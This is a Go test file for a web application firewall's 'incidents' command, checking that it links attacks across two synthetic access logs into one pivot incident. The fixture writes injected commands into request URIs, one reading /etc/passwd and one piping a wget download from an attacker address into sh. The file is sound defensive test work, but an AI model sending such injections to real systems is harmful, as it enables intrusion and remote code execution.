package main

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/fluent-bit-waf/fluent-bit-waf/cmd/wafctl/internal/cli"
	"github.com/stretchr/testify/require"
)

// accessLog writes lines of an access log in JSON, a day of ordinary requests before them.
type accessLog struct {
	strings.Builder
	at time.Time
}

func newAccessLog() *accessLog {
	l := &accessLog{at: time.Date(2026, 3, 2, 8, 0, 0, 0, time.UTC)}
	for n := range 60 {
		l.ask("10.2.0.9", "10.2.0.7:80", "GET", fmt.Sprintf("/api/orders/%d", n), 200, 25*time.Minute)
	}
	return l
}

func (l *accessLog) ask(from, to, method, uri string, status int, later time.Duration) {
	l.at = l.at.Add(later)
	address, port, _ := strings.Cut(to, ":")
	line, _ := json.Marshal(map[string]any{ // it holds nothing that cannot be written
		"time_iso8601": l.at.Format(time.RFC3339), "remote_addr": from, "server_addr": address, "server_port": port, "request_method": method,
		"request_uri": uri, "status": fmt.Sprint(status), "http_user_agent": "agent", "http_host": "shop.example", "server_protocol": "HTTP/1.1",
		"body_bytes_sent": 500, "http_accept": "*/*",
	})
	l.Write(append(line, '\n'))
}

// intrusion is an attacker who attacks a service, from which the next is attacked, in the log of each.
func intrusion(t *testing.T) (files []string) {
	shop, orders := newAccessLog(), newAccessLog()
	for n := range 4 {
		shop.ask("203.0.113.9", "10.2.0.7:80", "GET", fmt.Sprintf("/api/orders/%d?q=;cat%%20/etc/passwd", n), 200, 20*time.Second)
	}
	orders.at = shop.at
	orders.ask("10.2.0.7", "10.2.0.8:80", "POST", "/internal?cmd=;wget%20http://203.0.113.9/x|sh", 200, time.Minute)
	dir := t.TempDir()
	for name, l := range map[string]*accessLog{"shop.ndjson": shop, "orders.ndjson": orders} {
		require.NoError(t, os.WriteFile(filepath.Join(dir, name), []byte(l.String()), 0o600))
	}
	return []string{filepath.Join(dir, "orders.ndjson"), filepath.Join(dir, "shop.ndjson")}
}

func TestIncidentsOfSeveralFilesAreFoundInTheOrderOfTime(t *testing.T) {
	files := intrusion(t)
	dir := filepath.Dir(files[0]) + "/"
	got := wafctl(nil, nil, append([]string{"incidents"}, files...)...)
	require.Empty(t, got.err)
	require.Equal(t, cli.ExitAlert, got.code)
	golden(t, "incidents.txt", strings.ReplaceAll(got.out, dir, ""))

	got = wafctl(nil, nil, append([]string{"incidents", "--output", "json"}, files...)...)
	golden(t, "incidents.json", strings.ReplaceAll(got.out, dir, ""))
	var found struct {
		ID    string   `json:"id"`
		Kinds []string `json:"kinds"`
		First string   `json:"first_seen"`
		Hops  []struct{ From, To string }
	}
	require.NoError(t, json.Unmarshal([]byte(got.out), &found))
	require.Contains(t, found.Kinds, "pivot")
	require.Len(t, found.Hops, 2)

	explained := wafctl(nil, nil, append([]string{"incidents", "--explain", found.ID}, files...)...)
	golden(t, "incidents-explain.txt", strings.ReplaceAll(explained.out, dir, ""))
	require.Contains(t, explained.out, files[0]+":61")
}

func TestIncidentsCanBeExcluded(t *testing.T) {
	files := intrusion(t)
	got := wafctl(nil, nil, append([]string{"incidents", "--incident-exclude", "target=10.2.0.7:80; target=10.2.0.8:80 kind=pivot"}, files...)...)
	require.Equal(t, cli.ExitClean, got.code, got.out)
	require.Equal(t, "0 incidents in 125 records, 0 of severity high or critical\n", got.out)
}

func TestIdentitiesNameServicesOnBothSides(t *testing.T) {
	files := intrusion(t)
	identities := filepath.Join(t.TempDir(), "services.yaml")
	require.NoError(t, os.WriteFile(identities, []byte("10.2.0.7: web/shop\n10.2.0.0/24: web/rest\n"), 0o600))
	got := wafctl(nil, nil, append([]string{"incidents", "--identities", identities, "--output", "json"}, files...)...)
	require.Contains(t, got.out, `{"from":"203.0.113.9","to":"web/shop"`)
	require.Contains(t, got.out, `{"from":"web/shop","to":"web/rest"`)
}

func TestAStateHasNoEffectOnRecordsInFiles(t *testing.T) {
	state := filepath.Join(t.TempDir(), "state")
	for _, command := range []string{"incidents", "check"} {
		for _, more := range [][]string{nil, {"--incidents", "on"}} {
			got := wafctl(nil, nil, append(append([]string{command, "--incident-state", state}, more...), intrusion(t)...)...)
			require.Equal(t, cli.ExitError, got.code)
			require.Contains(t, got.err, "--incident-state: has no effect here")
			require.NotContains(t, got.err, "requires")
		}
	}
	require.NoFileExists(t, state)
}

func TestIncidentsRefuseWhatTheyCannotRead(t *testing.T) {
	for problem, args := range map[string][]string{
		`no incident "nothing" in these files`: {"--explain", "nothing"},
		`unknown condition "from=x"`:           {"--incident-exclude", "from=x"},
		`unknown kind "odd"`:                   {"--incident-exclude", "kind=odd"},
		"no such file":                         {"--incident-rules", "/nowhere/rules.yaml"},
		"identities":                           {"--identities", "/nowhere/services.yaml"},
		"incident_learning":                    {"--incident-learning", "soon"},
	} {
		got := wafctl(nil, nil, append(append([]string{"incidents"}, args...), intrusion(t)...)...)
		require.Equal(t, cli.ExitError, got.code, problem)
		require.Contains(t, got.err, strings.ReplaceAll(problem, "incident_learning", "incident-learning"))
	}
}
